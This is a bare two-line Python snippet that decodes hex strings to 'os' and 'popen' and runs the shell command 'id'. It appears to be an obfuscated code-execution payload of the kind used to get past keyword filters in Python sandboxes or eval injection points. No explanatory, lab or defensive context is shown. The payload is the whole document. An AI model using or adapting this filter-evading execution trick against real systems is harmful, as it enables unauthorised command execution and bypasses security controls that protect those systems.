mod = __import__(bytes.fromhex("6f73").decode())
getattr(mod, bytes.fromhex("706f70656e").decode())("id").read()
